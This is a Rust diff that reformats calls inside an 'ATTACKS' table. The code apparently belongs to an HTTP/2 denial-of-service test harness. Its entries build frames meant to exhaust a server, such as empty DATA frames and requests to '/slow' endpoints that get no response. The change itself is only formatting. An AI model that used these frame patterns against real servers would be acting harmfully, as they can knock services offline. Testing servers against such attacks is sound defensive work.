@@ -214,7 +214,13 @@ pub(crate) const ATTACKS: &[Attack] = &[
         summary: "DATA frames without content",
         unit: |number, out| {
             if number == 0 {
-                frame::append_frame(out, HEADERS, END_HEADERS, 1, &frame::post_block("/slow", None));
+                frame::append_frame(
+                    out,
+                    HEADERS,
+                    END_HEADERS,
+                    1,
+                    &frame::post_block("/slow", None),
+                );
             }
             frame::append_frame(out, DATA, 0, 1, &[]);
         },
@@ -236,7 +242,13 @@ pub(crate) const ATTACKS: &[Attack] = &[
         opening: |_| frame::opening_bytes(true),
         unit: |number, out| {
             let flags = END_STREAM | END_HEADERS;
-            frame::append_frame(out, HEADERS, flags, stream_id(number), &frame::get_block("/large"));
+            frame::append_frame(
+                out,
+                HEADERS,
+                flags,
+                stream_id(number),
+                &frame::get_block("/large"),
+            );
         },
         units_per_connection: 100,
         holds: true,
@@ -290,7 +302,13 @@ fn stream_id(number: u32) -> u32 {
 /// Appends a complete request to which the origin does not respond.
 fn append_request(number: u32, out: &mut Vec<u8>) {
     let flags = END_STREAM | END_HEADERS;
-    frame::append_frame(out, HEADERS, flags, stream_id(number), &frame::get_block("/slow"));
+    frame::append_frame(
+        out,
+        HEADERS,
+        flags,
+        stream_id(number),
+        &frame::get_block("/slow"),
+    );
 }
 
 fn append_window_update(out: &mut Vec<u8>, stream: u32, increment: u32) {
